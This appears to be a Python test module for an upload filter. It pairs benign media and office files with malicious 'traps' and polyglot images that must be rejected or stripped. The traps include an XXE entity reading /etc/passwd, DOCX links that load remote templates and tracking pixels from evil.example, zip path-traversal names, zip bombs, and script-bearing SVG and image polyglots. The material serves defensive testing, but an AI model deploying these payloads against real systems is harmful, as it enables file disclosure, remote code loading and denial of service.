"""Files by the dozen, each with what has to become of it: the benign, the traps, and pictures that lose their sting."""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Callable
from typing import NamedTuple

from PIL import Image, ImageCms

from tests.support import files
from tests.support.files import PAGE, PHP


class Case(NamedTuple):
    about: str
    name: str
    make: Callable[[], bytes]
    expected: str  # the kind of a file that is taken, or the code of the refusal


def _exif(orientation: int = 6) -> Image.Exif:
    exif = Image.Exif()
    exif[0x0112] = orientation
    exif[0x010F] = "Camera Maker"
    exif.get_ifd(0x8825)[2] = (52.0, 31.0, 12.0)
    return exif


def _srgb() -> bytes:
    return ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()


def _text(words: str, encoding: str = "utf-8") -> Callable[[], bytes]:
    return lambda: words.encode(encoding)


def _several() -> bytes:
    kept = io.BytesIO()
    first, second = (Image.open(io.BytesIO(files.picture(w, 200))) for w in (300, 100))
    first.save(kept, "MPO", save_all=True, append_images=[second])
    return kept.getvalue()


def _sixteen_bits() -> bytes:
    kept = io.BytesIO()
    Image.new("I;16", (700, 20), 40_000).save(kept, "PNG")
    return kept.getvalue()


BENIGN = [
    Case("a phone's photo", "IMG_0001.JPG", lambda: files.picture(1600, 1200, exif=_exif()), "image"),
    *(
        Case(
            f"a photo held the other way ({turn})",
            "p.jpg",
            lambda turn=turn: files.picture(300, 200, exif=_exif(turn)),
            "image",
        )
        for turn in range(1, 9)
    ),
    Case("a photo with a colour profile", "p.jpeg", lambda: files.picture(800, 600, icc_profile=_srgb()), "image"),
    Case("a progressive photo", "p.jpg", lambda: files.picture(800, 600, progressive=True), "image"),
    Case("a grey photo", "p.jpg", lambda: files.picture(800, 600, mode="L"), "image"),
    Case("a photo for printing", "p.jpg", lambda: files.picture(400, 300, mode="CMYK"), "image"),
    Case("a photo with a film behind it", "motion.jpg", lambda: files.picture(640, 480) + files.mp4(), "image"),
    Case(
        "a photo whose profile is rubbish",
        "p.jpg",
        lambda: files.picture(300, 200, icc_profile=b"rubbish" * 20),
        "image",
    ),
    Case("several photos in one", "p.jpg", _several, "image"),
    Case("a tiny picture", "dot.png", lambda: files.picture(1, 1, "PNG"), "image"),
    *(
        Case(f"a drawing in {mode}", "d.png", lambda mode=mode: files.picture(320, 240, "PNG", mode=mode), "image")
        for mode in ("1", "L", "LA", "P", "RGB", "RGBA")
    ),
    Case("a drawing of sixteen bits", "d.png", _sixteen_bits, "image"),
    Case("a drawing with words in it", "d.png", lambda: files.png_with_text(b"Made with love"), "image"),
    Case("a moving PNG", "d.png", lambda: files.animation(4, "PNG"), "image"),
    Case("a long screenshot", "s.png", lambda: files.png_of(1080, 15_000), "image"),
    Case("a still GIF", "g.gif", lambda: files.picture(300, 200, "GIF", mode="P"), "image"),
    Case("a moving GIF", "g.gif", lambda: files.animation(12), "image"),
    Case("a GIF of many frames", "g.gif", lambda: files.gif_of_frames(900), "image"),
    Case("a WebP", "w.webp", lambda: files.picture(800, 600, "WEBP"), "image"),
    Case("a lossless WebP", "w.webp", lambda: files.picture(300, 200, "WEBP", lossless=True), "image"),
    Case("a see-through WebP", "w.webp", lambda: files.picture(300, 200, "WEBP", mode="RGBA"), "image"),
    Case("a moving WebP", "w.webp", lambda: files.animation(6, "WEBP"), "image"),
    Case("a song", "song.mp3", files.mp3, "audio"),
    Case("a song with a title", "song.mp3", lambda: files.mp3(tag=files.id3(b"Title", 500)), "audio"),
    Case("a song with an old title", "song.mp3", lambda: files.mp3(end=b"TAG" + bytes(125)), "audio"),
    Case("a song cut in the middle of a note", "song.mp3", lambda: files.mp3() + files.mp3(1)[:200], "audio"),
    Case("a voice memo", "memo.m4a", lambda: files.mp4(b"M4A ", video=False), "audio"),
    Case("a voice memo of a browser", "voice.m4a", files.fragmented_mp4, "audio"),
    Case("a voice message of another messenger", "PTT-1.opus", files.ogg, "audio"),
    Case("sound in Ogg", "a.ogg", lambda: files.ogg("vorbis"), "audio"),
    Case("speech in Ogg", "a.ogg", lambda: files.ogg("speex"), "audio"),
    Case("a recording of a browser", "voice.webm", files.webm, "audio"),
    Case("a recording of a browser by its other name", "voice.weba", files.webm, "audio"),
    Case("a finished recording", "voice.webm", lambda: files.webm(live=False), "audio"),
    Case("sound from a browser in the film's box", "voice.mp4", files.fragmented_mp4, "audio"),
    *(
        Case(f"a plain recording ({codec})", "r.wav", lambda codec=codec: files.wav(codec=codec), "audio")
        for codec in (1, 3, 6, 7, 0xFFFE)
    ),
    Case(
        "a recording with notes", "r.wav", lambda: files.wav(more=b"LIST" + struct.pack("<I", 6) + b"INFOab"), "audio"
    ),
    Case("a film", "f.mp4", files.mp4, "video"),
    Case("a film of a phone", "f.mp4", lambda: files.mp4(b"mp42", late=True), "video"),
    Case("a film without sound", "f.mp4", lambda: files.mp4(sound=False), "video"),
    Case("a film with room to spare", "f.mp4", lambda: files.mp4(more=files.box(b"free", bytes(100))), "video"),
    Case("a film of another phone", "IMG_2.MOV", lambda: files.mp4(b"qt  ", late=True), "video"),
    Case("a film of a browser", "f.webm", lambda: files.webm(video=True), "video"),
    Case("a finished film", "f.webm", lambda: files.webm(video=True, live=False), "video"),
    Case("a letter", "letter.pdf", files.pdf, "document"),
    Case("a letter with a mark before it", "letter.pdf", lambda: files.pdf(before=b"\xef\xbb\xbf"), "document"),
    Case("a letter with room behind it", "letter.pdf", lambda: files.pdf(after=b"\r\n\0\0\0"), "document"),
    Case(
        "a form with a script in it",
        "form.pdf",
        lambda: files.pdf(inside=b"2 0 obj << /S /JavaScript >> endobj\n"),
        "document",
    ),
    Case("a note", "note.txt", _text("Dear all,\nthe parcel came. Thank you!\n"), "document"),
    Case("a note with every letter", "note.txt", _text("Grüße, שלום, مرحبا, 你好 🌿"), "document"),
    Case("a note with a mark", "note.txt", _text("\ufeffGrüße"), "document"),
    Case("a note of another system", "note.txt", _text("Grüße ✓", "utf-16"), "document"),
    Case("an old note", "note.txt", _text("Grüße aus Köln – bis bald", "cp1252"), "document"),
    Case("a note with less-than signs", "note.txt", _text("a < b, and b <c; x<3"), "document"),
    Case("a log with colours", "out.txt", _text("\x1b[31merror\x1b[0m: no such file\n"), "document"),
    Case("a list", "list.csv", _text('id,name\n1,"Pot, large"\n2,=1+1\n'), "document"),
    Case("a list with a bit of markup", "list.csv", _text("id,text\n1,<p>Hello</p>\n2,<b>bold</b>\n"), "document"),
    Case("a document", "d.docx", lambda: files.office("docx"), "document"),
    Case("a table", "t.xlsx", lambda: files.office("xlsx"), "document"),
    Case("slides", "s.pptx", lambda: files.office("pptx"), "document"),
    Case(
        "slides with a table inside",
        "s.pptx",
        lambda: files.office("pptx", ppt__embeddings__a_xlsx=files.office("xlsx")),
        "document",
    ),
    Case(
        "a document with links",
        "d.docx",
        lambda: files.office(
            "docx", **{"word___rels__document.xml.rels": files.relations("hyperlink", "https://example.com")}
        ),
        "document",
    ),
    Case(
        "a document made from a template of one's own",
        "d.docx",
        lambda: files.office(
            "docx", **{"word___rels__settings.xml.rels": files.relations("attachedTemplate", "file:///C:\\T\\N.dotx")}
        ),
        "document",
    ),
    Case("a document of the other office", "d.odt", files.odt, "document"),
]


SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
WRONG, UNSAFE, EMPTY, PIXELS = "wrong_type", "unsafe_file", "empty_file", "too_many_pixels"


def _stored(*entries: tuple[str, bytes], mode: int = 0, comment: bytes = b"") -> bytes:
    """A document with more entries, written entry by entry."""
    kept = io.BytesIO(files.office("docx"))
    with zipfile.ZipFile(kept, "a", zipfile.ZIP_DEFLATED) as made:
        for name, body in entries:
            info = zipfile.ZipInfo(name)
            info.compress_type = zipfile.ZIP_DEFLATED
            info.external_attr = mode << 16
            made.writestr(info, body)
        made.comment = comment
    return kept.getvalue()


def _overlapping() -> bytes:
    """Two entries of the list point at the same bytes: unpacked they are more than there is."""
    made = bytearray(_stored(("word/a.bin", b"a" * 999), ("word/b.bin", b"a" * 999)))
    with zipfile.ZipFile(io.BytesIO(bytes(made))) as opened:
        first, second = (opened.getinfo(name).header_offset for name in ("word/a.bin", "word/b.bin"))
    at = made.rfind(struct.pack("<I", second))
    made[at : at + 4] = struct.pack("<I", first)
    return bytes(made)


def _says_it_is_small() -> bytes:
    """An entry whose listed size is a lie."""
    made = bytearray(_stored(("word/a.xml", b"<a>" + b" " * 3_000_000 + b"</a>")))
    at = made.rfind(b"PK\x01\x02")
    made[at + 24 : at + 28] = struct.pack("<I", 100)
    return bytes(made)


def _locked() -> bytes:
    made = bytearray(files.office("docx"))
    at = made.find(b"PK\x01\x02")
    made[at + 8] |= 1
    return bytes(made)


def _external(kind: str, target: str) -> bytes:
    return files.office("docx", **{"word___rels__settings.xml.rels": files.relations(kind, target)})


_XXE = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'

TRAPS = [
    *(
        Case(f"an ending that is not taken: {ending}", f"a.{ending}", lambda: b"anything", WRONG)
        for ending in (
            "svg html htm xml xhtml mht js mjs htaccess exe msi apk dmg iso lnk url hta docm xlsm pptm dotm swf php"
            " phtml jsp asp sh bat cmd ps1 vbs jar zip rar 7z gz tar heic avif bmp tiff ico eps ps rtf doc xls aac 3gp"
        ).split()
    ),
    *(
        Case(f"a name without an ending: {name!r}", name, lambda: b"x", WRONG)
        for name in ("README", ".htaccess", "a.", "...", "jpg")
    ),
    *(
        Case(f"{what} as {name}", name, lambda body=body: body, code)
        for what, body, codes in (
            ("a page", PAGE, (WRONG, WRONG, WRONG, UNSAFE, UNSAFE)),
            ("a drawing that runs", SVG, (WRONG, WRONG, WRONG, UNSAFE, UNSAFE)),
            ("one byte", b"x", (WRONG, WRONG, WRONG, None, WRONG)),
            ("a program", b"MZ\x90\0" + bytes(60) + b"PE\0\0" + bytes(500), (WRONG, WRONG, WRONG, WRONG, WRONG)),
            ("a program of another system", b"\x7fELF\2\1\1" + bytes(500), (WRONG, WRONG, WRONG, WRONG, WRONG)),
        )
        for name, code in zip(("p.png", "p.jpg", "d.pdf", "n.txt", "v.mp4"), codes, strict=True)
        if code is not None
    ),
    *(Case(f"nothing at all as {name}", name, bytes, EMPTY) for name in ("p.png", "n.txt", "d.docx", "v.webm")),
    Case("a page with the first letters of a PNG", "p.png", lambda: b"\x89PNG\r\n\x1a\n" + PAGE, WRONG),
    Case("a script that begins like a GIF", "g.gif", lambda: b"GIF89a/*" + bytes(40) + b"*/=alert(1)//", WRONG),
    Case(
        "a script that begins like a JPEG", "p.jpg", lambda: b"\xff\xd8\xff\xe0/*" + bytes(40) + b"*/=alert(1)//", WRONG
    ),
    Case("half a JPEG", "p.jpg", lambda: files.picture(800, 600)[: len(files.picture(800, 600)) // 2], WRONG),
    Case("half a PNG", "p.png", lambda: files.picture(300, 200, "PNG")[:3000], WRONG),
    Case("half a WebP", "p.webp", lambda: files.picture(800, 600, "WEBP")[:2000], WRONG),
    Case("a PNG called JPEG", "p.jpg", lambda: files.picture(30, 20, "PNG"), WRONG),
    Case("a WebP called PNG", "p.png", lambda: files.picture(30, 20, "WEBP"), WRONG),
    Case("a BMP called PNG", "p.png", lambda: files.picture(30, 20, "BMP"), WRONG),
    Case("a TIFF called JPEG", "p.jpg", lambda: files.picture(30, 20, "TIFF"), WRONG),
    Case("one pixel wide and 60,000 high", "p.png", lambda: files.png_of(1, 60_000), PIXELS),
    Case("60,000 wide and one pixel high", "p.png", lambda: files.png_of(60_000, 1), PIXELS),
    Case("25,001,000 pixels", "p.png", lambda: files.png_of(25_001, 1_000), PIXELS),
    Case("just one row too many", "p.png", lambda: files.png_of(5_000, 5_001), PIXELS),
    Case("a pixel flood", "p.png", lambda: files.png_of(40_000, 40_000), PIXELS),
    Case(
        "a GIF that says it is huge",
        "g.gif",
        lambda: files.gif_of_frames(1)[:6] + b"\xff\xff\xff\xff" + files.gif_of_frames(1)[10:],
        PIXELS,
    ),
    Case("a GIF of 100,000 frames", "g.gif", lambda: files.gif_of_frames(100_000), PIXELS),
    Case("a GIF without an end", "g.gif", lambda: files.gif_of_frames(1)[:30], WRONG),
    Case("a film with a page inside", "v.mp4", lambda: files.box(b"ftyp", b"isom" + bytes(4)) + PAGE, UNSAFE),
    Case(
        "a film with a page in its empty room",
        "v.mp4",
        lambda: files.box(b"ftyp", b"isom" + bytes(4)) + files.box(b"free", PAGE) + files.mp4()[24:],
        UNSAFE,
    ),
    Case("a film with something behind it", "v.mp4", lambda: files.mp4() + b"tail that is no box", WRONG),
    Case(
        "a film with an archive behind it",
        "v.mp4",
        lambda: files.mp4() + files.box(b"free", files.archive({"a": "b"})),
        UNSAFE,
    ),
    Case("half a film", "v.mp4", lambda: files.mp4()[:-100], WRONG),
    Case(
        "a film without an index",
        "v.mp4",
        lambda: files.box(b"ftyp", b"isom" + bytes(4)) + files.box(b"mdat", bytes(99)),
        WRONG,
    ),
    Case(
        "a still picture of the new kind as a film",
        "v.mp4",
        lambda: files.mp4(b"heic").replace(b"mp42", b"mif1"),
        WRONG,
    ),
    Case("a recording with a page before it", "v.webm", lambda: PAGE + files.webm(), UNSAFE),
    Case("a recording with a page behind it", "v.webm", lambda: files.webm() + PAGE, WRONG),
    Case(
        "a recording with a file attached", "v.webm", lambda: files.webm(more=files.element(0x1941A469, b"evil")), WRONG
    ),
    Case("a recording of another kind", "v.webm", lambda: files.webm(doc_type=b"matroska"), WRONG),
    Case("a film called a voice message", "v.weba", lambda: files.webm(video=True), WRONG),
    Case("half a recording", "v.webm", lambda: files.webm()[:-30], WRONG),
    Case("a film in Ogg", "a.ogg", lambda: files.ogg("theora"), WRONG),
    Case("sound of the other kind", "a.opus", lambda: files.ogg("vorbis"), WRONG),
    Case("half of a sound", "a.ogg", lambda: files.ogg()[:-50], WRONG),
    Case("a song with a page in its title", "a.mp3", lambda: files.mp3(tag=files.id3(PAGE)), UNSAFE),
    Case("a song that is mostly something else", "a.mp3", lambda: files.mp3(3) + b"x" * 9000, WRONG),
    Case("a song with an archive behind it", "a.mp3", lambda: files.mp3(300) + files.archive({"a.class": "b"}), UNSAFE),
    Case("a plain recording without sound", "a.wav", lambda: files.wav()[:44].replace(b"data", b"junk"), WRONG),
    Case("half a plain recording", "a.wav", lambda: files.wav()[:-100], WRONG),
    Case("a letter behind a page", "d.pdf", lambda: PAGE + files.pdf(), WRONG),
    Case("a letter that is a page as well", "d.pdf", lambda: files.pdf(inside=PAGE), UNSAFE),
    Case("a letter with a page behind it", "d.pdf", lambda: files.pdf(after=PAGE), UNSAFE),
    Case(
        "a letter with an archive behind it", "d.pdf", lambda: files.pdf(after=files.archive({"a.class": "b"})), UNSAFE
    ),
    Case("half a letter", "d.pdf", lambda: files.pdf()[:60], WRONG),
    Case("a letter called a note", "n.txt", files.pdf, WRONG),
    Case("a note with a zero in it", "n.txt", lambda: b"Dear\0all", WRONG),
    Case("a page behind some space", "n.txt", lambda: b" \r\n\t" + PAGE, UNSAFE),
    Case("a page behind a mark", "n.txt", lambda: b"\xef\xbb\xbf" + PAGE, UNSAFE),
    Case("a page in sixteen bits", "n.txt", lambda: PAGE.decode().encode("utf-16"), UNSAFE),
    Case("a page behind a comment", "n.txt", lambda: b"<!-- hello -->" + PAGE, UNSAFE),
    Case("a page behind a sentence", "n.csv", lambda: b"a,b\n<script>alert(1)</script>", UNSAFE),
    Case("a program for a server", "n.txt", lambda: PHP, UNSAFE),
    Case("a page of the strict kind", "n.txt", lambda: b'<?xml version="1.0"?><html/>', UNSAFE),
    Case("rich text called plain", "n.txt", lambda: rb"{\rtf1 hello}", WRONG),
    Case("an archive called a document", "d.docx", lambda: files.archive({"a.txt": "b"}), WRONG),
    Case("a table called a document", "d.docx", lambda: files.office("xlsx"), WRONG),
    Case("a document called a table", "t.xlsx", lambda: files.office("docx"), WRONG),
    Case("a document of the other office by this one's name", "d.docx", files.odt, WRONG),
    Case(
        "an archive called an other office's document",
        "d.odt",
        lambda: files.archive({"mimetype": "text/plain"}),
        WRONG,
    ),
    Case("an old document by the new name", "d.docx", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), WRONG),
    Case("half a document", "d.docx", lambda: files.office("docx")[:-40], WRONG),
    Case("a document behind a page", "d.docx", lambda: PAGE + files.office("docx"), WRONG),
    Case("a document with a page behind it", "d.docx", lambda: files.office("docx") + PAGE * 9, UNSAFE),
    Case("a document with a long last word", "d.docx", lambda: _stored(comment=PAGE * 5), UNSAFE),
    Case(
        "macros",
        "d.docx",
        lambda: files.office("docx", word__vbaProject_bin=b"x").replace(b"vbaProject_bin", b"vbaProject.bin"),
        UNSAFE,
    ),
    Case(
        "a document that says it has macros",
        "d.docx",
        lambda: files.archive(
            files.office_parts("docx", main="application/vnd.ms-word.document.macroEnabled.main+xml")
        ),
        UNSAFE,
    ),
    Case(
        "a template called a document",
        "d.docx",
        lambda: files.archive(
            files.office_parts(
                "docx", main="application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml"
            )
        ),
        WRONG,
    ),
    Case("macros of the other office", "d.odt", lambda: files.odt(Basic__Standard__Module1_xml="<x/>"), UNSAFE),
    *(
        Case(f"a {kind} from {target[:12]}", "d.docx", lambda kind=kind, target=target: _external(kind, target), UNSAFE)
        for kind in ("attachedTemplate", "oleObject", "frame", "subDocument")
        for target in (
            "http://evil.example/t.dotm",
            "https://evil.example/t",
            r"\\evil.example\share\t.dotx",
            "file://evil.example/t",
        )
    ),
    Case("a picture that calls home", "d.docx", lambda: _external("image", "http://evil.example/pixel.png"), UNSAFE),
    Case(
        "a document that reads the server's files", "d.docx", lambda: _stored(("word/evil.xml", _XXE.encode())), UNSAFE
    ),
    Case(
        "the same in sixteen bits",
        "d.docx",
        lambda: _stored(("word/evil.xml", _XXE.replace('1.0"', '1.0" encoding="utf-16"').encode("utf-16"))),
        UNSAFE,
    ),
    Case(
        "the same in its links",
        "d.docx",
        lambda: files.office("docx", **{"word___rels__document.xml.rels": _XXE}),
        UNSAFE,
    ),
    Case(
        "the same in the other office",
        "d.odt",
        lambda: files.odt(**{"meta.xml": _XXE}),
        UNSAFE,
    ),
    Case(
        "links that cannot be read",
        "d.docx",
        lambda: files.office("docx", **{"word___rels__document.xml.rels": "<Relation"}),
        WRONG,
    ),
    *(
        Case(f"a part called {name!r}", "d.docx", lambda name=name: _stored((name, b"x")), UNSAFE)
        for name in (
            "../../etc/passwd",
            "/etc/passwd",
            "word/../../x",
            "..\\..\\x",
            "C:\\x",
            "C:/x",
            "word/run.exe",
            "word/a.js",
            "word/inner.zip",
            "word/page.html",
            "word/x.lnk",
            "word/drawing.svg",
            "WORD/DOCUMENT.XML",
        )
    ),
    Case(
        "a part that points elsewhere", "d.docx", lambda: _stored(("word/link", b"/etc/passwd"), mode=0o120777), UNSAFE
    ),
    Case("a flat bomb", "d.docx", lambda: _stored(("word/media/a.bin", bytes(30_000_000))), UNSAFE),
    Case(
        "a bomb of many parts",
        "d.docx",
        lambda: _stored(*((f"word/{n}.bin", bytes(1_040_000)) for n in range(60))),
        UNSAFE,
    ),
    Case(
        "a bomb in a bomb", "d.docx", lambda: _stored(("word/lib.zip", files.archive({"b": bytes(9_000_000)}))), UNSAFE
    ),
    Case("parts inside each other", "d.docx", _overlapping, UNSAFE),
    Case("a part that is larger than it says", "d.docx", _says_it_is_small, WRONG),
    Case(
        "more than a thousand parts", "d.docx", lambda: _stored(*((f"word/{n}.bin", b"") for n in range(1_001))), UNSAFE
    ),
    Case("a locked document", "d.docx", _locked, UNSAFE),
]


class Sting(NamedTuple):
    """A picture that is also something else. It may be taken, for it is drawn anew, but the rest must be gone."""

    about: str
    name: str
    make: Callable[[], bytes]
    gone: tuple[bytes, ...]


STINGS = [
    Sting("a GIF that is an archive as well", "g.gif", lambda: files.animation(3) + files.archive({"Evil.class": b"CAFE"}), (b"PK\x03\x04", b"Evil.class")),
    Sting("a JPEG that is an archive as well", "p.jpg", lambda: files.picture(300, 200) + files.archive({"Evil.class": b"CAFE"}), (b"PK\x03\x04",)),
    Sting("a JPEG with a script in its comment", "p.jpg", lambda: files.picture(300, 200, comment=b"*/=alert(1)/*" + PAGE), (b"alert", b"<script")),
    Sting("a JPEG with a page in what the camera said", "p.jpg", lambda: files.picture(300, 200, exif=_evil_exif()), (b"<script", b"Exif", b"alert")),
    Sting("a JPEG with a program in its profile", "p.jpg", lambda: files.picture(300, 200, icc_profile=_srgb() + PHP), (b"<?php", b"ICC_PROFILE")),
    Sting("a JPEG with the place it was taken at", "p.jpg", lambda: files.picture(300, 200, exif=_exif()), (b"Camera Maker", b"Exif")),
    Sting("a JPEG with words of its editor", "p.jpg", lambda: files.picture(300, 200, xmp=b"<x:xmpmeta>secret place</x:xmpmeta>"), (b"secret place",)),
    Sting("a PNG with a program in its words", "p.png", lambda: files.png_with_text(PHP), (b"<?php", b"tEXt", b"iTXt")),
    Sting("a PNG with a page behind it", "p.png", lambda: files.picture(300, 200, "PNG") + PAGE, (b"<script",)),
    Sting("a PNG with what the camera said", "p.png", lambda: files.picture(300, 200, "PNG", exif=_exif(1)), (b"Camera Maker", b"eXIf")),
    Sting("a moving PNG with words", "p.png", lambda: files.animation(3, "PNG") + PHP, (b"<?php",)),
    Sting("a GIF with a program in its comment", "g.gif", lambda: files.picture(30, 20, "GIF", mode="P", comment=PHP), (b"<?php",)),
    Sting("a moving GIF with a page behind it", "g.gif", lambda: files.animation(3) + PAGE, (b"<script",)),
    Sting("a WebP with what the camera said", "w.webp", lambda: files.picture(300, 200, "WEBP", exif=_evil_exif()), (b"<script", b"EXIF")),
    Sting("a WebP with words", "w.webp", lambda: files.picture(300, 200, "WEBP", xmp=PHP), (b"<?php", b"XMP ")),
]  # fmt: skip


def _evil_exif() -> Image.Exif:
    exif = _exif(1)
    exif[0x010E] = PAGE.decode()
    return exif
